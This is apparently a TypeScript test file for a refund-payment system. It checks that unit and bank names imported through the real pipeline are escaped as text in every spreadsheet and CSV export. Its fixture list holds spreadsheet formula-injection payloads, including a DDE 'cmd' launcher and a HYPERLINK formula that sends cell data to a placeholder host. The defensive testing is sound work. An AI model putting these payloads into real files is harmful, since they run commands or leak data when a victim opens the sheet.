// Formula injection, end to end: units whose names (and a bank name) begin with = + - @ come in through the real
// import, and every file made from them — the import's error report, the decision list, the 公示 list, the bank
// instruction file (CSV and XLSX) and the reconciliation report — carries them as text an Excel will not run, while
// the amounts, references and account numbers the bank reads stay exactly as they were.
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { chineseWorkingDays } from '../../../src/adapters/calendar/chinese-working-days.ts';
import { sm3Hex } from '../../../src/adapters/crypto/sm3.ts';
import type { Store } from '../../../src/adapters/store/open-store.ts';
import { fixedClock } from '../../../src/domain/ports/clock.ts';
import type { Actor } from '../../../src/domain/refund-case.ts';
import { exportInstruction } from '../../../src/services/bank/export-instruction.ts';
import { reconcileBatch, writeReconciliationXlsx } from '../../../src/services/bank/reconcile-batch.ts';
import { caseToConfirm, recordConfirmation } from '../../../src/services/confirm/confirm-case.ts';
import { importFile } from '../../../src/services/imports/import-file.ts';
import { exportNoticeXlsx } from '../../../src/services/notice/export-notice.ts';
import { openNotice } from '../../../src/services/notice/open-notice.ts';
import { createPaymentsForConfirmed } from '../../../src/services/payments/create-payments.ts';
import { authorisePaymentBatch, proposePaymentBatch } from '../../../src/services/payments/payment-batches.ts';
import { runPaymentBatch } from '../../../src/services/payments/run-batch.ts';
import { approveBatch } from '../../../src/services/review/review-batch.ts';
import { proposeBatch } from '../../../src/services/review/propose-batch.ts';
import { exportDecisionsXlsx } from '../../../src/services/screening/export-decisions.ts';
import { csvRows, formulaCells, xlsxRows } from '../../support/export-cells.ts';
import { creditCodeFor, table, testCipher, unitRecord, writeCsvFile } from '../../support/import-fixtures.ts';
import { insertCase, insertRun, ROUND } from '../../support/review-fixtures.ts';
import { storeBackends, suiteWithFolder } from '../../support/store-backends.ts';
import { opened } from '../../support/sealed-accounts.ts';

const clock = fixedClock('2024-09-27T10:00:00+08:00');
const caseWorker: Actor = { kind: 'staff', role: 'case_worker', name: '经办员张三' };
const reviewer: Actor = { kind: 'staff', role: 'reviewer', name: '复核员李四' };
const maker: Actor = { kind: 'staff', role: 'finance', name: '财务王五' };
const checker: Actor = { kind: 'staff', role: 'finance', name: '财务赵六' };

/** Unit names as an attacker would import them, each followed by what the files must show instead. */
const HOSTILE_NAMES: readonly (readonly [string, string])[] = [
  [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
  ['+SUM(1,2)威海', `'+SUM(1,2)威海`],
  ['-2+3+cmd|威海', `'-2+3+cmd|威海`],
  ['@SUM(A1:A9)威海', `'@SUM(A1:A9)威海`],
];
const HOSTILE_BANK = ['=HYPERLINK("http://x.example/?q="&A1)', `'=HYPERLINK("http://x.example/?q="&A1)`] as const;

/** Imports the units through the import service, as a case worker's upload does; returns their ids in file order. */
async function importUnits(store: Store, folder: string): Promise<number[]> {
  const records = HOSTILE_NAMES.map(([name], i) =>
    unitRecord(i + 1, { 单位名称: name, ...(i === 0 && { 开户银行: HOSTILE_BANK[0] }) }),
  );
  const { headers, rows } = table(records);
  const path = join(folder, 'units.csv');
  writeCsvFile(path, headers, rows, 'utf8');
  const result = await importFile(store, {
    kind: 'units',
    path,
    fileName: 'units.csv',
    actor: '经办员张三',
    cipher: testCipher,
    reportDir: folder,
  });
  expect(result.status, JSON.stringify(result)).toBe('accepted');
  const units = await store.db.selectFrom('units').select(['id', 'credit_code', 'name']).orderBy('id').execute();
  expect(units.map((u) => u.name)).toEqual(HOSTILE_NAMES.map(([name]) => name));
  expect(units.map((u) => u.credit_code)).toEqual(HOSTILE_NAMES.map((_, i) => creditCodeFor(i + 1)));
  return units.map((u) => u.id);
}

for (const backend of storeBackends()) {
  describe.skipIf(backend.skipReason)(`formula injection through every export on ${backend.name}`, () => {
    const folder = suiteWithFolder(backend, 'wengang-export-injection-');

    it('shows imported names beginning with = + - @ as text in the error report, decision list, 公示, bank file and reconciliation', async () => {
      await backend.withStore(async (store) => {
        const { db } = store;
        const dir = folder();
        const ids = await importUnits(store, dir);
        const shown = HOSTILE_NAMES.map(([, text]) => text);
        const files: Record<string, string[][]> = {};

        // A rejected import's report repeats the bad value as typed.
        const bad = table([unitRecord(9, { 单位名称: '=1+1', 从业人员: '=A1*10' })]);
        const badPath = join(dir, 'bad.csv');
        writeCsvFile(badPath, bad.headers, bad.rows, 'utf8');
        const rejected = await importFile(store, {
          kind: 'units',
          path: badPath,
          fileName: 'bad.csv',
          actor: '经办员张三',
          cipher: testCipher,
          reportDir: dir,
        });
        if (rejected.status !== 'rejected') throw new Error('the file with a formula as 从业人员 must be rejected');
        files.errorReport = await xlsxRows(rejected.reportPath);
        expect(files.errorReport.flat()).toContain(`'=A1*10`);

        const run = await insertRun(db);
        for (const [i, id] of ids.entries()) await insertCase(db, run, id, { state: 'eligible', amountFen: 100_000 * (i + 1) });
        await exportDecisionsXlsx(db, ROUND, {}, join(dir, 'decisions.xlsx'));
        files.decisions = await xlsxRows(join(dir, 'decisions.xlsx'));

        const { batchId: reviewBatch } = await proposeBatch(db, { round: ROUND, unitIds: ids, actor: caseWorker, clock });
        await approveBatch(db, { batchId: reviewBatch, actor: reviewer, clock });
        const { noticeId } = await openNotice(db, {
          round: ROUND,
          batchIds: [reviewBatch],
          actor: caseWorker,
          clock,
          calendar: chineseWorkingDays,
        });
        await exportNoticeXlsx(db, noticeId, join(dir, 'notice.xlsx'));
        files.notice = await xlsxRows(join(dir, 'notice.xlsx'));

        // Notified (the 公示 and the SMS are other tests' business), then each unit confirms.
        await db.updateTable('refund_cases').set({ state: 'notified' }).where('unit_id', 'in', ids).execute();
        for (const id of ids) {
          await db
            .transaction()
            .execute(async (trx) => recordConfirmation(trx, (await caseToConfirm(trx, ROUND, id, true))!, clock.now()));
        }
        await createPaymentsForConfirmed(db, { round: ROUND, clock, actor: maker });
        const { batchId } = await proposePaymentBatch(db, { round: ROUND, actor: maker, clock });
        await authorisePaymentBatch(db, { batchId, actor: checker, clock });
        await runPaymentBatch(db, { batchId, clock, workerId: 'test' });
        const payments = await db.selectFrom('payments').select(['id', 'account_cipher']).orderBy('unit_id').execute();

        const csv = await exportInstruction(db, { batchId, format: 'csv', by: '财务王五', clock, cipher: testCipher });
        files.bankCsv = csvRows(csv.bytes.toString('utf8'));
        const xlsxPath = join(dir, 'instruction.xlsx');
        await writeFile(
          xlsxPath,
          (await exportInstruction(db, { batchId, format: 'xlsx', by: '财务王五', clock, cipher: testCipher })).bytes,
        );
        files.bankXlsx = await xlsxRows(xlsxPath);
        for (const rows of [files.bankCsv, files.bankXlsx]) {
          const lines = rows.slice(1, 1 + ids.length);
          expect(lines.map((l) => [l[1], l[2], l[5], l[6], l[7]])).toEqual(
            payments.map((p, i) => [
              `${p.id}-1`,
              shown[i],
              i === 0 ? HOSTILE_BANK[1] : '中国建设银行威海分行',
              opened(p.account_cipher),
              `${i + 1}000.00`,
            ]),
          );
          // The checksum covers the cells as written, apostrophes included, so the bank's check still holds.
          const covered = rows
            .slice(0, -1)
            .map((cells) => `${cells.join('|')}\n`)
            .join('');
          expect(rows.at(-1)!.slice(0, 3)).toEqual(['校验码', 'SM3', sm3Hex(covered)]);
        }

        const reportPath = join(dir, 'reconciliation.xlsx');
        await writeReconciliationXlsx(await reconcileBatch(db, { batchId }), reportPath);
        files.reconciliation = await xlsxRows(reportPath);

        for (const [name, rows] of Object.entries(files)) {
          expect(formulaCells(rows.flat()), `${name}: cells a spreadsheet would run`).toEqual([]);
          if (name !== 'errorReport') expect(rows.flat(), name).toEqual(expect.arrayContaining(shown));
        }
      });
    });
  });
}
